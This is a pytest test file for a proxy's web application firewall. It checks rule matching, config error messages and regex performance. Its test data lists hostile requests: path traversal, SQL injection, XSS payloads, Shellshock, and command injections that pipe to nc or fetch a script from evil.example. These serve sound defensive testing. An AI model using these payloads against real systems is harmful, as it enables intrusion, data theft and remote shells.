"""WAF rules: matchers, combinators, actions, and the baseline against attacks and ordinary traffic."""

from __future__ import annotations

import io
import logging

import pytest

from simpleproxy.config import WAFRule, WAFSettings, config_from_dict
from simpleproxy.errors import ConfigError, Forbidden
from simpleproxy.request import Request
from simpleproxy.response import Response
from simpleproxy.security.waf import baseline_rules, waf_filter


def request(target: str, method: str = "GET", user_agent: str | None = "Mozilla/5.0 (X11; Linux x86_64)",
            length: int = 0, **headers: str) -> Request:
    environ = {"REQUEST_METHOD": method, "REQUEST_URI": target, "SERVER_PROTOCOL": "HTTP/1.1", "HTTP_HOST": "shop.example",
               "REMOTE_ADDR": "192.0.2.7", "wsgi.input": io.BytesIO(b"x" * length), "CONTENT_LENGTH": str(length) if length else ""}
    if user_agent is not None:
        environ["HTTP_USER_AGENT"] = user_agent
    environ.update({"HTTP_" + k.upper(): v for k, v in headers.items()})
    return Request(environ, 10**9)


BASELINE = waf_filter(None, WAFSettings(baseline=True), baseline_rules())

ATTACKS = [
    "/download?file=../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2fetc%2fpasswd",
    "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",  # double-encoded
    "/img?path=....//....//etc/shadow",
    "/view?f=C:\\Windows\\win.ini",
    "/read?name=report.pdf%00.jpg",
    "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
    "/items?id=1+union+all+select+null,null--",
    "/login?user=admin'%20OR%20'1'='1",
    "/login?user=admin%27--",
    "/items?id=1;%20DROP%20TABLE%20users",
    "/items?id=1');%20DELETE%20FROM%20orders;--",
    "/items?id=1%20AND%20SLEEP(5)",
    "/items?id=1;waitfor%20delay%20'0:0:5'",
    "/q?x=1+and+1=1+union+select+table_name+from+information_schema.tables",
    "/search?q=<script>alert(1)</script>",
    "/search?q=%3Cscript%3Edocument.cookie%3C/script%3E",
    "/search?q=<img%20src=x%20onerror=alert(1)>",
    "/search?q=<svg/onload=alert(1)>",
    "/go?next=javascript:alert(document.domain)",
    "/search?q=<iframe%20src=//evil.example>",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/ping?host=127.0.0.1|nc%20evil.example%204444",
    "/ping?host=$(curl%20evil.example/x.sh)",
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/backup/site.sql",
    "/phpmyadmin/index.php",
    "/config.php.bak",
    "/.git%2Fconfig",
    "/items?id=1+union/**/select+password+from+users",
    "/login?user='or'1'='1",
    "/static/../../etc/passwd",  # routed as /etc/passwd, but a probe all the same
]

SCANNER_AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source project",
                  "() { :; }; /bin/bash -c 'id'"]

ORDINARY = [
    "/",
    "/search?q=O'Reilly%20books",
    "/search?q=select+a+color+from+the+list",
    "/search?q=drop+shipping+and+delete+old+orders",
    "/search?q=rock+%26+roll",
    "/search?q=1%3D1+is+true",
    "/api/v1/union-members?sort=name",
    "/blog/2026/11/where-to-sleep-in-paris",
    "/static/app.min.js?v=3.2.1",
    "/docs/v2.1/guide",
    "/files/report.v2.final.pdf",
    "/api/items?filter=%7B%22price%22%3A%7B%22%24lt%22%3A30%7D%7D",
    "/search?q=how+to+use+script+tags+in+html",
    "/profile?bio=I%20love%20C%23%20and%20.NET",
    "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "/track?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday",
    "/calc?expr=(2%2B3)*4",
    "/login?next=/account/orders",
    "/api/users/42/orders?limit=50&offset=100",
    "/search?q=what+is+a+.env+file",
    "/wiki/Semicolon;_usage",
    "/search?q=cat+food+%26+dog+food",
    "/img/photo-2026.jpg",
    "/search?q=email%40example.com",
    "/api/v2/query?sql=false&from=2026-01-01&to=2026-02-01",
    "/list?a=1;id=2",
    "/list?x=1&&id=2",
    "/search?q=dog+|+cat",
    "/list?sort=asc&onload=1",
    "/search?q=cats+and+dogs",
    "/blog?tag=rock+and+roll&sort=name",
]


@pytest.mark.parametrize("target", ATTACKS)
def test_the_baseline_refuses_attacks(target) -> None:
    assert BASELINE.verdict(request(target))[0] == "deny", target


@pytest.mark.parametrize("agent", SCANNER_AGENTS)
def test_the_baseline_refuses_scanners_and_shellshock(agent) -> None:
    assert BASELINE.verdict(request("/", user_agent=agent))[0] == "deny"


@pytest.mark.parametrize("target", ORDINARY)
def test_the_baseline_lets_ordinary_traffic_through(target) -> None:
    assert BASELINE.verdict(request(target)) == ("pass", ""), target


def test_the_baseline_looks_at_the_referer_too() -> None:
    assert BASELINE.verdict(request("/", referer="https://x.example/?q=<script>x</script>"))[0] == "deny"


def rules(*specs: dict, baseline: bool = False):
    return waf_filter(None, WAFSettings(tuple(WAFRule(s["name"], s["match"], s.get("action", "deny")) for s in specs), baseline),
                      baseline_rules())


def test_matchers_and_combinators() -> None:
    f = rules(
        {"name": "admin-from-outside", "match": {"all": [{"path": {"prefix": "/admin"}},
                                                          {"not": {"header:X-Internal": {"exact": "yes"}}}]}},
        {"name": "no-agent", "match": {"user_agent": {"absent": True}}},
        {"name": "big-upload", "match": {"all": [{"method": "POST"}, {"body_size": {"over": "1KiB"}}]}},
        {"name": "legacy", "match": {"any": [{"path": {"contains": "/cgi-bin/"}},
                                             {"query": {"regex": "debug=1", "ignore_case": True}}]}},
        {"name": "curl", "match": {"user_agent": {"prefix": "CURL/", "ignore_case": True}}},
    )
    assert f.verdict(request("/admin/users")) == ("deny", "admin-from-outside")
    assert f.verdict(request("/admin/users", x_internal="yes")) == ("pass", "")
    assert f.verdict(request("/", user_agent=None)) == ("deny", "no-agent")
    assert f.verdict(request("/upload", "POST", length=2048)) == ("deny", "big-upload")
    assert f.verdict(request("/upload", "POST", length=1024)) == ("pass", "")
    assert f.verdict(request("/x?DEBUG=1")) == ("deny", "legacy")
    assert f.verdict(request("/", user_agent="curl/8.5.0")) == ("deny", "curl")


def test_allow_skips_later_rules_and_the_baseline_and_log_goes_on(caplog) -> None:
    caplog.set_level(logging.WARNING)
    f = rules({"name": "note-search", "match": {"path": {"prefix": "/search"}}, "action": "log"},
              {"name": "trusted-tool", "match": {"header:X-Tool": {"exact": "scanner-we-run"}}, "action": "allow"},
              baseline=True)
    assert f.verdict(request("/.git/config", x_tool="scanner-we-run")) == ("allow", "trusted-tool")
    assert f.verdict(request("/search?q=<script>")) == ("deny", "baseline-script-injection")
    assert "waf rule note-search matched GET /search" in caplog.text


def test_a_denial_is_403_and_never_reaches_the_next_handler() -> None:
    reached = []
    with pytest.raises(Forbidden, match="refused by rule baseline-scanners"):
        BASELINE(request("/.env"), next=lambda r: reached.append(r) or Response("200 OK", [], []))
    assert reached == []


@pytest.mark.parametrize(("rule", "message"), [
    ({"name": "r", "match": {"path": {"regex": "("}}}, "routes[0].waf.rules[0].match.path.regex: does not compile"),
    ({"name": "r", "match": {"cookie": {"exact": "x"}}}, "routes[0].waf.rules[0].match.cookie: unknown field"),
    ({"name": "r", "match": {"path": {"prefix": "/a"}, "method": "GET"}}, "routes[0].waf.rules[0].match: a condition is one key"),
    ({"name": "r", "match": {"any": []}}, "routes[0].waf.rules[0].match.any: expected a list"),
    ({"name": "r", "match": {"body_size": {"over": "lots"}}}, "routes[0].waf.rules[0].match.body_size.over:"),
    ({"name": "r", "match": {"path": "/a"}, "action": "block"}, "routes[0].waf.rules[0].action: expected one of deny"),
    ({"match": {"path": "/a"}}, "routes[0].waf.rules[0].name: each rule needs a name"),
])
def test_rule_errors_name_the_key(rule, message) -> None:
    with pytest.raises(ConfigError) as info:
        config_from_dict({"routes": [{"respond": {}, "waf": {"rules": [rule]}}]})
    assert any(problem.startswith(message) for problem in info.value.problems), info.value.problems


@pytest.mark.parametrize("target", [
    "/?q='or" + "+" * 20000 + "x",
    "/?q=" + "<svg" * 2000,
    "/?q=union" + "+" * 20000,
    "/?q=" + "%27" * 3000,
    "/?q=;" + "+" * 20000 + "cat",
    "/?q=`" + "a" * 20000,
])
def test_the_baseline_stays_linear_on_pathological_input(target) -> None:
    """Regular expressions run under the GIL: one that backtracks badly would stall every thread.
    These inputs took seconds to minutes with the first version's patterns; the bound is 100x the time
    they take now."""
    import time

    started = time.perf_counter()
    BASELINE.verdict(request(target, referer=target[:8000]))
    assert time.perf_counter() - started < 2.0
